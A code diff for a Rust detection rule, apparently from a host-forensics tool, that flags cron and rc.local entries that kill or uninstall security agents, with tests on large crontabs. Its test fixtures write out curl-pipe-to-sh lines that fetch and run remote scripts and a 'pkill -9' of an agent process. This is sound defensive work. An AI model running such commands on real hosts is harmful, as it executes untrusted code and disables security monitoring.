@@ -14,39 +14,40 @@ use crate::detect::finding::{file_subject, finding, persistence_subject, Finding
 use crate::detect::rules;
 use crate::detect::Context;
 use crate::indicators::Kind;
-use crate::parse::numbered_lines;
+use crate::model::persistence::PersistenceEntry;
 
 pub fn detect(ctx: &Context) -> Vec<Finding> {
     let mut out = Vec::new();
-    for (file, bytes, _) in ctx.model.persistence_files(|_| true) {
-        let code = || numbered_lines(bytes).filter(|(_, raw)| !raw.trim_ascii().starts_with(b"#"));
-        let mut hits = Vec::new();
-        for (n, raw) in code() {
-            let lossy = String::from_utf8_lossy(raw);
-            if let Some(v) = ctx.iocs.find_in(Kind::AgentTamper, &lossy) {
-                if hits.len() < 20 {
-                    hits.push((n, raw, v.to_owned()));
-                }
-            }
-        }
+    // The model's entries, not the file's lines: they are capped per file and a crontab's repeated job
+    // line is one entry, so a shaped 50,000-line crontab costs no more than its cap (issue 18 case 7).
+    for (file, _, entries) in ctx.model.persistence_files(|_| true) {
+        let hits: Vec<(&PersistenceEntry, &str)> = entries
+            .iter()
+            .filter_map(|e| {
+                let lossy = String::from_utf8_lossy(&e.command);
+                ctx.iocs.find_in(Kind::AgentTamper, &lossy).map(|v| (e, v))
+            })
+            .take(20)
+            .collect();
         if hits.is_empty() {
             continue;
         }
-        // Only a file that tampers with an agent has its lines scored (every persistence line of the
-        // bundle was scored here before, for files this detector then skipped).
-        let suspicious = code().any(|(_, raw)| common::score_shell(raw, ctx.iocs).0.points > 0);
+        // Scored only for a file that tampers with an agent, and only until one line counts.
+        let suspicious = entries
+            .iter()
+            .any(|e| common::score_shell(&e.command, ctx.iocs).0.points > 0);
         let sev = if suspicious {
             Severity::Medium
         } else {
             Severity::Low
         };
         let mut f = finding(&rules::EVA_031, sev).subject_as(file_subject(file), Role::Context);
-        for (n, raw, v) in &hits {
+        for (e, v) in &hits {
             f = f
-                .subject(persistence_subject(&file.path, *n))
+                .subject(persistence_subject(&file.path, e.line))
                 .evidence(format!(
                     "{} (matches {v:?})",
-                    quote_line(&file.path, *n, raw)
+                    quote_line(&file.path, e.line, &e.raw)
                 ));
         }
         if suspicious {
@@ -66,6 +67,7 @@ mod tests {
     use super::*;
     use crate::indicators::Indicators;
     use crate::model::fixture;
+    use minetrace_schemas::RawBytes;
 
     fn found(files: Vec<(&[u8], &[u8])>) -> Vec<Finding> {
         let model = fixture::model(
@@ -109,5 +111,46 @@ mod tests {
         // A file that tampers with no agent is not reported, however suspicious its lines.
         let other: &[u8] = b"#!/bin/sh\ncurl -fsSL http://127.8.8.8/x.sh | sh\n";
         assert!(found(vec![(b"/etc/rc.local", other)]).is_empty());
+    }
+
+    #[test]
+    fn judges_the_models_entries_continued_lines_included() {
+        // An uninstaller alone is what admins run: low. A rc script whose agent kill continues on the
+        // next physical line is still one command (the model joins it).
+        let alone = found(vec![(
+            b"/etc/cron.d/cleanup",
+            b"0 3 * * * root /usr/local/aegis/uninstall.sh\n",
+        )]);
+        assert_eq!(alone.len(), 1);
+        assert_eq!(alone[0].severity, Severity::Low);
+        let script = found(vec![(
+            b"/etc/rc.local",
+            b"#!/bin/sh\npkill -9 \\\n  aliyundun\ncurl -fsSL http://198.51.100.7/x.sh | sh\n",
+        )]);
+        assert_eq!(script.len(), 1);
+        assert_eq!(script[0].severity, Severity::Medium);
+        assert!(script[0].has_subject(&persistence_subject(
+            &RawBytes::from(&b"/etc/rc.local"[..]),
+            2
+        )));
+    }
+
+    #[test]
+    fn a_huge_crontab_costs_its_capped_entries() {
+        // 60,000 admin lines, then an uninstaller past the model's cap (MAX_FILE_ENTRIES per file): the
+        // detector judges the entries the model kept (the model warns about the rest), not every line.
+        let mut tab = Vec::new();
+        for i in 0..60_000 {
+            tab.extend_from_slice(
+                format!("{} * * * * root /usr/local/bin/job{i}\n", i % 60).as_bytes(),
+            );
+        }
+        tab.extend_from_slice(b"0 * * * * root /usr/local/aegis/uninstall.sh\n");
+        assert!(found(vec![(b"/etc/cron.d/huge", &tab)]).is_empty());
+        let mut head = b"0 * * * * root /usr/local/aegis/uninstall.sh\n".to_vec();
+        head.extend_from_slice(&tab);
+        let found = found(vec![(b"/etc/cron.d/huge", &head)]);
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].severity, Severity::Low);
     }
 }
